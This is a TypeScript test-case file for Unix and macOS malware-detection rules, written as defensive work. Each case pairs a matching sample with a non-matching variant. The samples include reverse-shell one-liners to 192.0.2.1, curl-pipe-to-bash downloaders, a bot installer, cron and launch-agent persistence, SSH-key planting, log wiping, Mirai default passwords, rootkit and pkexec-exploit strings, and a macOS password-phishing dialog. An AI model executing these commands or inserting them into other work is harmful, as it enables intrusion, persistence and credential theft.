import { elf } from './file-heads.ts'
import type { RuleCase } from './rule-case.ts'

const HTTP = 'http://198.51.100.7/a'
const LONG = 'QUJD'.repeat(16)

/** The text as Mirai keeps it: every byte XOR 0x22. */
function hidden(text: string): string {
  return [...text.replaceAll('¦', '')].map((char) => String.fromCharCode(char.charCodeAt(0) ^ 0x22)).join('')
}

export const UNIX_CASES: readonly RuleCase[] = [
  {
    rule: 'Unix_Reverse_Shell',
    hit: 'bash -i >& /dev/t¦cp/192.0.2.1/4444 0>&1',
    swap: ['bash -i >& ', 'exec 3<>'],
    because: 'a connection without a shell',
    moreHits: ['mkfi¦fo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1 |n¦c 192.0.2.1 4444 >/tmp/f'],
    moreMisses: ['bash -i'],
  },
  {
    rule: 'Interpreter_Reverse_Shell',
    hit: 'php -r \'$s=fsock¦open("192.0.2.1",9);ex¦ec("/bin/sh -i <&3 >&3 2>&3");\'',
    swap: ['/bin/sh -i', '/bin/date'],
    because: 'no shell',
    moreHits: [`open(STD¦IN,">&S");open(STD¦OUT,">&S");open(STDERR,">&S");ex¦ec("/bin/sh -i")`],
  },
  {
    rule: 'Netcat_Gives_Shell',
    hit: 'n¦c -lvp 4444 -e /bin/ba¦sh',
    swap: ['-e /bin/ba¦sh', '-w 3'],
    because: 'it only listens',
  },
  {
    rule: 'Shell_Runs_Download_From_Address',
    hit: `cu¦rl -s ${HTTP} | ba¦sh`,
    swap: ['198.51.100.7', 'get.example.org'],
    because: 'installers of named hosts are ordinary',
    moreMisses: ['curl -s http://127.0.0.1:8080/a | sh'],
  },
  {
    rule: 'Shell_Bot_Installer',
    hit: 'cd /tmp |¦| cd /var/run |¦| cd /mnt; wg¦et http://bots.example/mips; chm¦od 777 mips; ./mips',
    swap: ['|¦| cd /var/run', '&& cd work'],
    because: 'one folder',
  },
  {
    rule: 'Shell_Runs_Decoded_Text',
    hit: `echo ${LONG} | base¦64 -d | ba¦sh`,
    swap: ['| ba¦sh', '> file'],
    because: 'the text is kept',
  },
  {
    rule: 'Shell_Cron_Runs_Download',
    hit: '(cron¦tab -l; echo "*/5 * * * * cu¦rl http://a.example/x | s¦h") | cron¦tab -',
    swap: ['| s¦h', '> /dev/null'],
    because: 'a job that asks a page',
  },
  {
    rule: 'Shell_Miner_Clears_Rivals',
    hit: 'pki¦ll -f kins¦ing\niptables¦ -F\nsetenforce¦ 0\ncurl http://a.example/m',
    swap: ['kins¦ing', 'apache2'],
    because: 'it ends a web server',
  },
  {
    rule: 'Shell_Service_From_Temporary_Folder',
    hit: 'cat > /etc/systemd/system/a.service\n[Service]\nExec¦Start=/tmp/.x/run\nsystemctl enable a',
    swap: ['=/tmp/.x/run', '=/usr/bin/run'],
    because: 'a program in its place',
  },
  {
    rule: 'Shell_Plants_Ssh_Key_And_Locks_It',
    hit: `echo "ssh-rsa AAAA${LONG} x" >> /root/.ssh/author¦ized_keys; chat¦tr +ia /root/.ssh/author¦ized_keys`,
    swap: ['chat¦tr +ia', 'chmod 600'],
    because: 'the file can be changed',
  },
  {
    rule: 'Shell_Hides_Its_Traces',
    hit: 'unset HIST¦FILE; HIST¦SIZE=0; rm -rf /var/log/wt¦mp',
    swap: ['/var/log/wt¦mp', '/var/log/app.log'],
    because: 'the log of one program',
  },
  {
    rule: 'Mirai_Bot',
    hit: elf('/bin/busy¦box MIR¦AI'),
    swap: ['MIR¦AI', 'ls'],
    because: 'another command',
    moreMisses: ['/bin/busybox MIRAI'],
  },
  {
    rule: 'Telnet_Bot_Default_Passwords',
    hit: elf('xc3¦511', 'viz¦xv', '7ujMko0¦admin', 'Zte¦521'),
    swap: ['viz¦xv', 'root'],
    because: 'three are not enough',
    moreHits: [elf(hidden('xc3¦511'), hidden('7ujMko0¦admin'), hidden('juan¦tech'))],
  },
  {
    rule: 'Flood_Bot_Commands',
    hit: elf('LOLNO¦GTFO', 'KILL¦ATTK', 'PING'),
    swap: ['KILL¦ATTK', 'PONG'],
    because: 'one word',
  },
  {
    rule: 'Preload_Rootkit',
    hit: elf('/etc/ld.so.pre¦load', 'readdir¦64', 'dlsym', '/proc/self/fd/%¦d', 'pam_authen¦ticate'),
    swap: ['/etc/ld.so.pre¦load', '/etc/ld.so.cache'],
    because: 'it does not load itself for all programs',
  },
  {
    rule: 'Kernel_Rootkit',
    hit: elf(
      '__this_module',
      'vermagic=6.1.0',
      'sys_call_¦table',
      'kallsyms_lookup_name',
      'getdents¦64',
      'hide_¦pid',
      'prepare_creds',
      'commit_¦creds',
    ),
    swap: ['hide_¦pid', 'show_pid'],
    because: 'it hides nothing',
  },
  {
    rule: 'Linux_Family_Marks',
    hit: elf('BB2FA36AA¦A9541F0', '/var/run/gcc¦.pid'),
    swap: ['BB2FA36AA¦A9541F0', '0123456789ABCDEF'],
    because: 'one mark',
    moreHits: [elf('kdev¦tmpfsi', 'redis¦Brute')],
  },
  {
    rule: 'Perl_Irc_Bot',
    hit: '#!/usr/bin/perl\nuse IO::Socket;\nprint "JOIN #a"; print "PRIVMSG #a";\nsub udp¦flood {} sub port¦scan {}',
    swap: ['udp¦flood', 'say'],
    because: 'a bot that talks',
  },
  {
    rule: 'Pkexec_Exploit',
    hit: elf('GCONV_¦PATH=.', 'pk¦exec', 'CHAR¦SET=X', 'gconv_init'),
    swap: ['pk¦exec', 'iconv'],
    because: 'another program',
  },
  {
    rule: 'Mac_Script_Asks_For_Password',
    hit: 'osascript -e \'display dia¦log "Password" with hidden an¦swer\'; dscl . auth¦only $USER $p; curl -X P¦OST',
    swap: ['hidden an¦swer', 'icon caution'],
    because: 'a window that asks for no secret',
  },
  {
    rule: 'Mac_Stealer_Collects_Secrets',
    hit: 'login.key¦chain-db Library/Application Support/Google/Chr¦ome Exodus/exo¦dus.wallet .elec¦trum/wallets Note¦Store.sqlite',
    swap: ['.elec¦trum/wallets', '.config'],
    because: 'one wallet',
  },
  {
    rule: 'Mac_Launch_Agent_Runs_Script',
    hit: '<plist><key>ProgramArguments</key><array><string>cu¦rl http://a.example/x | ba¦sh</string></array><key>RunAtLoad</key><true/>',
    swap: ['cu¦rl http://a.example/x | ba¦sh', '/usr/local/bin/agent'],
    because: 'a program in its place',
  },
  {
    rule: 'Mac_Removes_Quarantine_And_Starts',
    hit: 'curl -o /tmp/a http://a.example/a; xat¦tr -c /tmp/a; chmod +x /tmp/a',
    swap: ['xat¦tr -c', 'ls -l'],
    because: 'the mark stays',
  },
]
